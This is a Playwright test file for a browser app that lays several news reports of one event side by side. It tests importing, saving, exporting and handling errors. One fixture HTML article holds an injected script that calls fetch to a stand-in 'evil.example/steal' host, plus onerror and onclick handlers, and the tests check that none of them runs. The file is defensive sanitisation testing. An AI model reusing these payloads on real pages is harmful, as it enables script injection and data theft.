import { readFileSync } from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import { expect, test } from '@playwright/test';
import type { Locator, Page } from '@playwright/test';
import { newStory, paste, pasteField } from './support/library';
import { ANALYSIS_TIMEOUT, showAligned, sourceColumns } from './support/story';

// Three reports of one (invented) event, written the way wire copy is: the same facts in other
// words, one figure that differs. Nothing here comes from the seed story.
const HARBOUR_POST = `Storm forces closure of coastal highway

The state transport agency closed the coastal highway on Tuesday after a landslide buried two lanes near the harbour, officials said.

About 12,000 vehicles use the road each day, according to the agency. Repairs could take three weeks, the governor told reporters on Tuesday evening.

No one was injured in the landslide, police said.`;

const VALLEY_HERALD = `Landslide shuts coast road for weeks

A landslide near the harbour buried part of the coastal highway on Tuesday, and the state closed the road, the transport agency said.

The governor said repairs would take at least three weeks. Some 9,000 vehicles travel the highway daily, local officials said.

Police said nobody was hurt.`;

const COURIER_HTML = `<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Coastal highway closed after landslide | The Courier</title>
<meta property="og:site_name" content="The Courier">
<script>window.__parallaxRan = 'script'; fetch('https://evil.example/steal');</script>
</head><body>
<h1>Coastal highway closed after landslide</h1>
<img src="https://evil.example/pixel.png" onerror="window.__parallaxRan = 'onerror'">
<p onclick="window.__parallaxRan = 'onclick'">Transport officials closed the coastal highway on Tuesday after a landslide near the harbour covered two lanes.</p>
<p>The governor said the repairs would take three weeks. No injuries were reported, according to police.</p>
</body></html>`;

/** Bytes as Playwright hands files to the page. */
const utf8 = (text: string) => Buffer.from(text, 'utf8');

function dropZone(page: Page) {
  return page.getByRole('button', { name: /Choose files, or drop them here/ });
}

/** Drops a file on a target the way a browser does: a DataTransfer carrying a File. */
async function dropFile(page: Page, target: Locator, name: string, type: string, bytes: Buffer) {
  const dataTransfer = await page.evaluateHandle(
    ({ name, type, data }) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([Uint8Array.from(data)], name, { type }));
      return transfer;
    },
    { name, type, data: [...bytes] },
  );
  await target.dispatchEvent('dragenter', { dataTransfer });
  await target.dispatchEvent('dragover', { dataTransfer });
  await target.dispatchEvent('drop', { dataTransfer });
}

/** Chooses a file through the drop zone's file picker. */
async function chooseFile(page: Page, name: string, type: string, bytes: Buffer) {
  const chooser = page.waitForEvent('filechooser');
  await dropZone(page).click();
  await (await chooser).setFiles({ name, mimeType: type, buffer: bytes });
}

/** Clicks an export button and returns the downloaded file's name and text. */
async function download(page: Page, button: string): Promise<{ name: string; text: string }> {
  const started = page.waitForEvent('download');
  await page.getByRole('group', { name: 'Export' }).getByRole('button', { name: button }).click();
  const file = await started;
  const path = await file.path();
  return { name: file.suggestedFilename(), text: readFileSync(path, 'utf8') };
}

/** Waits for the comparison of `count` sources, its articles side by side (all of them). */
async function waitForColumns(page: Page, count: number) {
  await showAligned(page, count >= 4);
  await expect(sourceColumns(page)).toHaveCount(count, { timeout: ANALYSIS_TIMEOUT });
}

test.beforeEach(async ({ page }) => {
  await page.setViewportSize({ width: 1440, height: 900 });
});

test('builds a story from pasted and dropped articles, keeps it, exports, deletes and imports it', async ({
  page: firstTab,
}) => {
  test.setTimeout(180_000);
  const problems: string[] = [];
  const foreignRequests: string[] = [];
  const watch = (tab: Page) => {
    tab.on('console', (m) => {
      if (m.type() === 'error') problems.push(m.text());
    });
    tab.on('pageerror', (e) => problems.push(e.message));
    tab.on('request', (r) => {
      if (!r.url().startsWith('http://127.0.0.1') && !r.url().startsWith('blob:'))
        foreignRequests.push(r.url());
    });
  };
  let page = firstTab;
  watch(page);

  await newStory(page);
  await paste(page, HARBOUR_POST);
  await expect(
    page.getByText('Added “Storm forces closure of coastal highway” (pasted-1.txt).'),
  ).toBeVisible();
  // The first article made the story: the address now names it.
  await expect(page).toHaveURL(/\?story=user%3A[0-9a-f]{16}$/);
  await expect(pasteField(page)).toHaveValue('');
  await paste(page, VALLEY_HERALD);
  await expect(
    page.getByText('Added “Landslide shuts coast road for weeks” (pasted-2.txt).'),
  ).toBeVisible();
  await dropFile(page, dropZone(page), 'courier.html', 'text/html', utf8(COURIER_HTML));
  await expect(
    page.getByText('Added “Coastal highway closed after landslide” (courier.html).'),
  ).toBeVisible();

  // Inferred metadata is shown and editable.
  const third = page.getByRole('group', { name: /Column 3/ });
  await expect(third.getByRole('textbox', { name: 'Outlet' })).toHaveValue('The Courier');
  await page
    .getByRole('group', { name: /Column 1/ })
    .getByRole('textbox', { name: 'Outlet' })
    .fill('Harbour Post');
  await page
    .getByRole('group', { name: /Column 2/ })
    .getByRole('textbox', { name: 'Outlet' })
    .fill('Valley Herald');

  await waitForColumns(page, 3);
  const columns = sourceColumns(page);
  await expect(page.getByRole('region', { name: 'Harbour Post', exact: true })).toBeVisible();
  await expect(page.getByRole('region', { name: 'Valley Herald', exact: true })).toBeVisible();
  const courier = page.getByRole('region', { name: 'The Courier', exact: true });
  await expect(
    courier.getByText(/Transport officials closed the coastal highway on Tuesday/),
  ).toBeVisible();
  await expect(page.getByRole('button', { name: 'Aligned' })).toHaveAttribute(
    'aria-pressed',
    'true',
  );

  // Nothing in the HTML ran or loaded, and its markup never became elements.
  expect(
    await page.evaluate(() => (window as unknown as { __parallaxRan?: string }).__parallaxRan),
  ).toBeUndefined();
  await expect(page.locator('img[src*="evil.example"]')).toHaveCount(0);
  await expect(page.locator('[onclick], [onerror]')).toHaveCount(0);
  await expect(courier.getByText('__parallaxRan')).toHaveCount(0);
  expect(foreignRequests).toEqual([]);

  // A reload (or a crash) loses nothing.
  const url = page.url();
  const before = await download(page, 'Analysis JSON');
  await page.reload();
  await waitForColumns(page, 3);
  expect(page.url()).toBe(url);
  await expect(page.getByRole('textbox', { name: 'Story name' })).toHaveValue(
    'Storm forces closure of coastal highway',
  );
  await expect(page.getByRole('region', { name: 'Valley Herald', exact: true })).toBeVisible();
  await expect(columns).toHaveCount(3);
  // So does closing the tab: the story opens in a new one.
  const tab = await page.context().newPage();
  watch(tab);
  await page.close();
  page = tab;
  await page.goto(url);
  await waitForColumns(page, 3);

  // Export the story, the Analysis and the report.
  const storyFile = await download(page, 'Export story');
  expect(storyFile.name).toBe('storm-forces-closure-of-coastal-highway.parallax.json');
  const exported = JSON.parse(storyFile.text) as {
    format: string;
    version: number;
    story: { articles: { file: string; outlet: string | null; source: string }[] };
  };
  expect(exported).toMatchObject({ format: 'parallax-story', version: 1 });
  expect(exported.story.articles.map((a) => [a.file, a.outlet])).toEqual([
    ['pasted-1.txt', 'Harbour Post'],
    ['pasted-2.txt', 'Valley Herald'],
    ['courier.html', 'The Courier'],
  ]);
  const report = await download(page, 'Markdown report');
  expect(report.name).toMatch(/\.report\.md$/);
  expect(report.text).toMatch(/^# Storm forces closure of coastal highway\n/);
  expect(report.text).toContain('## Shared facts');
  expect(report.text).toMatch(
    /\(\[link\]\(<http:\/\/127\.0\.0\.1:\d+\/\?story=user%3A[0-9a-f]{16}&name=Storm/,
  );
  const analysisBefore = JSON.parse(before.text) as {
    facts: unknown[];
    articles: { id: string }[];
  };
  expect(analysisBefore.articles).toHaveLength(3);

  // Delete it: gone from the picker, and its link says which file to import.
  await page.getByRole('button', { name: 'Delete story…' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete story' }).click();
  await expect(page.getByRole('heading', { name: 'Stories', level: 1 })).toBeVisible();
  await expect(page.getByText(/Deleted “Storm forces closure of coastal highway”/)).toBeVisible();
  await expect(
    page.getByRole('region', { name: 'Your stories' }).getByText('None yet.'),
  ).toBeVisible();
  // A link from the report, opened where the story is missing, says which file to import.
  const reportLink = /\(\[link\]\(<([^>]+)>\)\)/.exec(report.text)?.[1] ?? '';
  expect(reportLink).toContain('#/claim/v1/user:');
  await page.goto(reportLink);
  await expect(
    page.getByRole('heading', {
      name: '“Storm forces closure of coastal highway” is not in this browser',
    }),
  ).toBeVisible();
  await expect(
    page.getByText('storm-forces-closure-of-coastal-highway.parallax.json'),
  ).toBeVisible();

  // Import it back, right from the link: the same comparison.
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import the story file…' }).click();
  await (
    await chooser
  ).setFiles({ name: storyFile.name, mimeType: 'application/json', buffer: utf8(storyFile.text) });
  await expect(
    page.getByText(/Imported “Storm forces closure of coastal highway” \(3 articles\)/),
  ).toBeVisible();
  await waitForColumns(page, 3);
  const after = await download(page, 'Analysis JSON');
  expect(JSON.parse(after.text)).toEqual(JSON.parse(before.text));
  expect(problems).toEqual([]);
});

test('each bad input gets its own message and loses nothing else', async ({ page }) => {
  test.setTimeout(120_000);
  await newStory(page);
  const pasteMessages = page.locator('[id$="-paste-messages"]');
  const fileMessages = page.locator('[id$="-files-messages"]');

  await page.getByRole('button', { name: 'Add pasted article' }).click();
  await expect(pasteMessages).toContainText('The pasted text is empty');
  await expect(pasteField(page)).toHaveAttribute('aria-invalid', 'true');
  await expect(pasteField(page)).toHaveAccessibleDescription(/The pasted text is empty/);

  await paste(page, '   \n\t  \n');
  await expect(pasteMessages).toContainText('only spaces and line breaks');
  await expect(pasteField(page)).toHaveValue('   \n\t  \n');

  await paste(page, HARBOUR_POST);
  await expect(pasteMessages).toContainText('Added “Storm forces closure of coastal highway”');

  await paste(page, `${HARBOUR_POST}\n`);
  await expect(pasteMessages).toContainText(
    'already in the story (as “Storm forces closure of coastal highway”)',
  );
  await expect(pasteField(page)).toHaveValue(`${HARBOUR_POST}\n`);
  await pasteField(page).fill('');

  const png = Buffer.from([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
  ]);
  await chooseFile(page, 'photo.html', 'text/html', png);
  await expect(fileMessages).toContainText('photo.html: this is a PNG image, not an article');
  await expect(dropZone(page)).toHaveAccessibleDescription(/PNG image/);

  await chooseFile(page, 'huge.txt', 'text/plain', Buffer.alloc(2 * 1024 * 1024 + 10, 'a'));
  await expect(fileMessages).toContainText('huge.txt: the file is too large');

  const latin1 = Buffer.concat([
    utf8('Caf'),
    Buffer.from([0xe9]),
    utf8(' owners reopen after the landslide\n\nThe owners of the caf'),
    Buffer.from([0xe9]),
    utf8(' near the harbour reopened on Friday, three days after the landslide closed the road.'),
  ]);
  await dropFile(page, dropZone(page), 'cafe.txt', 'text/plain', latin1);
  await expect(fileMessages).toContainText(
    'Added “Café owners reopen after the landslide” (cafe.txt).',
  );
  await expect(fileMessages).toContainText('cafe.txt: not valid UTF-8; decoded as Windows-1252');

  const german =
    'Erdrutsch sperrt Küstenstraße\n\nDie Küstenstraße wurde am Dienstag nach einem Erdrutsch in der Nähe des Hafens gesperrt, ' +
    'teilte die Verkehrsbehörde mit. Nach Angaben der Polizei wurde niemand verletzt. Die Reparatur soll drei Wochen dauern, ' +
    'sagte der Gouverneur am Abend.';
  await chooseFile(page, 'erdrutsch.md', 'text/markdown', utf8(german));
  await expect(fileMessages).toContainText('Added “Erdrutsch sperrt Küstenstraße” (erdrutsch.md).');
  await expect(fileMessages).toContainText(
    'erdrutsch.md: this article appears to be in German; the comparison reads English',
  );

  await chooseFile(page, 'same.txt', 'text/plain', utf8(HARBOUR_POST));
  await expect(fileMessages).toContainText('same.txt: this article is already in the story');

  // Everything that was accepted is still there, notices kept with the article.
  await expect(page.getByRole('heading', { name: 'Articles in this story (3)' })).toBeVisible();
  await expect(page.getByRole('group', { name: /Column 2/ })).toContainText('not valid UTF-8');
  await waitForColumns(page, 3);

  // A file that is not a story file is refused on import, and the library is untouched.
  await page.goto('./?stories');
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import a story file…' }).click();
  await (
    await chooser
  ).setFiles({
    name: 'notes.json',
    mimeType: 'application/json',
    buffer: utf8('{"format":"other"}'),
  });
  await expect(page.getByRole('alert')).toContainText(
    'notes.json: This is not a Parallax story file: it does not say "format": "parallax-story". Nothing was imported.',
  );
  await expect(page.getByRole('region', { name: 'Your stories' }).getByRole('link')).toHaveCount(1);
});

test('removes, restores and reorders articles, and the comparison follows', async ({ page }) => {
  test.setTimeout(120_000);
  await newStory(page);
  await paste(page, HARBOUR_POST);
  await paste(page, VALLEY_HERALD);
  await waitForColumns(page, 2);
  const first = () => sourceColumns(page).first();
  await expect(first()).toContainText('Storm forces closure of coastal highway');

  await page
    .getByRole('button', { name: 'Move “Landslide shuts coast road for weeks” left' })
    .click();
  await expect(first()).toContainText('Landslide shuts coast road for weeks', {
    timeout: ANALYSIS_TIMEOUT,
  });

  await page
    .getByRole('button', { name: 'Remove “Storm forces closure of coastal highway”' })
    .click();
  await waitForColumns(page, 1);
  await page.getByRole('button', { name: 'Undo' }).click();
  await waitForColumns(page, 2);
  await expect(page.getByText('Put back “Storm forces closure of coastal highway”.')).toBeVisible();
});

test('opens a shipped corpus story from the picker, with its credit', async ({ page }) => {
  test.setTimeout(120_000);
  await page.goto('./?stories');
  const shipped = page.getByRole('region', { name: 'Shipped with Parallax' });
  await expect(shipped.getByRole('listitem')).toHaveCount(29);
  await shipped
    .getByRole('link', { name: 'Lindsay Lohan Leaves Betty Ford, Checks Into Malibu Rehab' })
    .click();
  await expect(page).toHaveURL(/\?story=ecb%3A1-ecbplus$/);
  await waitForColumns(page, 4);
  // Columns are named by the outlet of each article's address, titled by its headline.
  const names = await sourceColumns(page).evaluateAll((columns) =>
    columns.map(
      (c) => document.getElementById(c.getAttribute('aria-labelledby') ?? '')?.textContent,
    ),
  );
  expect(names).toEqual(['Access Hollywood', 'Yahoo', 'Fox News', 'KTLA']);
  await expect(sourceColumns(page).first()).toContainText(
    'Lindsay Lohan Leaves Betty Ford, Checks Into Malibu Rehab',
  );
  const credit = page.getByRole('region', { name: 'About this story' });
  await expect(credit).toContainText('ECB+ corpus');
  await expect(credit).toContainText('CC BY 3.0');
  await expect(credit.getByRole('link', { name: 'Licence' })).toHaveAttribute(
    'href',
    /creativecommons\.org/,
  );
});

test('a storage failure is shown and the work stays in memory', async ({ page }) => {
  test.setTimeout(120_000);
  // The browser's storage is full: every write fails.
  await page.addInitScript(() => {
    IDBObjectStore.prototype.put = function put(): IDBRequest<IDBValidKey> {
      throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
    };
  });
  await newStory(page);
  await paste(page, HARBOUR_POST);
  await paste(page, VALLEY_HERALD);
  const notice = page.getByRole('status').filter({ hasText: 'Not saved in this browser.' });
  await expect(notice).toContainText('The browser’s storage for this site is full.');
  await expect(notice).toContainText('export the story to keep a copy');
  await waitForColumns(page, 2);
  await expect(page.getByRole('heading', { name: 'Articles in this story (2)' })).toBeVisible();
  const storyFile = await download(page, 'Export story');
  expect(
    (JSON.parse(storyFile.text) as { story: { articles: unknown[] } }).story.articles,
  ).toHaveLength(2);
});

test('a browser that refuses storage (private mode) still lets the reader work', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await page.addInitScript(() => {
    indexedDB.open = () => {
      throw new DOMException('The operation is insecure.', 'SecurityError');
    };
  });
  await newStory(page);
  await paste(page, HARBOUR_POST);
  await expect(
    page.getByRole('status').filter({ hasText: 'Not saved in this browser.' }),
  ).toContainText('would not open its storage');
  await expect(
    page.getByText('Added “Storm forces closure of coastal highway” (pasted-1.txt).'),
  ).toBeVisible();
  await waitForColumns(page, 1);
});

/** Serious and critical accessibility violations, in words (optionally leaving a part out). */
async function seriousViolations(page: Page, exclude?: string): Promise<string[]> {
  let builder = new AxeBuilder({ page }).withTags([
    'wcag2a',
    'wcag2aa',
    'wcag21a',
    'wcag21aa',
    'best-practice',
  ]);
  if (exclude) builder = builder.exclude(exclude);
  const results = await builder.analyze();
  return results.violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map(
      (v) =>
        `${v.id}: ${v.help} — ${v.nodes
          .map((n) => n.target.join(' '))
          .slice(0, 3)
          .join(', ')}`,
    );
}

test('axe finds no serious or critical violation in the picker and the story form', async ({
  page,
}) => {
  test.setTimeout(120_000);
  for (const scheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    await page.goto('./?stories');
    await expect(page.getByRole('heading', { name: 'Stories', level: 1 })).toBeVisible();
    expect(await seriousViolations(page), `picker, ${scheme}`).toEqual([]);
    await newStory(page);
    await paste(page, ' ');
    await expect(page.getByText('only spaces and line breaks')).toBeVisible();
    expect(await seriousViolations(page), `new story with an error, ${scheme}`).toEqual([]);
  }

  await page.emulateMedia({ colorScheme: 'light' });
  await paste(page, HARBOUR_POST);
  await paste(page, VALLEY_HERALD);
  await waitForColumns(page, 2);
  await page.getByRole('button', { name: 'Add pasted article' }).click();
  await expect(page.getByText('The pasted text is empty')).toBeVisible();
  // With the form open the comparison is short, and its side panel (the viewer's) becomes a
  // scrollable region without a focusable element: a known issue of that panel, checked apart.
  expect(await seriousViolations(page, 'aside')).toEqual([]);
  await page.getByRole('button', { name: 'Hide articles' }).click();
  expect(await seriousViolations(page)).toEqual([]);
});
